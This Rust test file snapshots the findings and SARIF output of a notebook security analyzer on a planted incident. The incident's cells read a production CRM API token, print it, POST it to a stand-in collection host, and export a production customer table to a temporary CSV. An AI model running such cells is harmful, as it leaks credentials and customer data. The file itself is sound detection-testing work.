//! Snapshot tests (insta) of the analyzer's outputs on the planted incident's cells: the findings JSON and
//! the SARIF log. A change to either is a reviewed change (`cargo insta review`), not a silent one.
#![allow(clippy::unwrap_used)] // test code: a failing unwrap is a failing test

use nbtrail_analyzer::{Cell, Rules, analyze, sarif};

/// The incident session's cells, as the sample logs hold them.
fn incident() -> Vec<Cell> {
    [
        "%md\n# churn scratch\nquick look at at-risk accounts",
        "crm_token = dbutils.secrets.get(scope=\"prod-crm\", key=\"crm-api-token\")",
        "print(f\"token is {crm_token}\")",
        "import requests\nresp = requests.post(\"https://hooks.example.net/collect\", json={\"token\": crm_token, \"source\": \"dbx\"}, timeout=10)\nprint(resp.status_code)",
        "customers = spark.table(\"prod.crm.customers\")\ndisplay(customers.limit(20))",
        "customers.toPandas().to_csv(\"/dbfs/tmp/customers_export.csv\", index=False)",
    ]
    .iter()
    .enumerate()
    .map(|(i, c)| Cell::new((i + 1).to_string(), *c, Some("python")))
    .collect()
}

#[test]
fn incident_findings_json() {
    let a = analyze(&incident(), &Rules::default_rules());
    insta::assert_json_snapshot!(a.findings);
}

#[test]
fn incident_cell_facts_json() {
    let a = analyze(&incident(), &Rules::default_rules());
    insta::assert_json_snapshot!(a.facts);
}

#[test]
fn incident_sarif() {
    let rules = Rules::default_rules();
    let a = analyze(&incident(), &rules);
    insta::assert_json_snapshot!(sarif::to_sarif(&[("incident.py".to_string(), &a)], &rules));
}
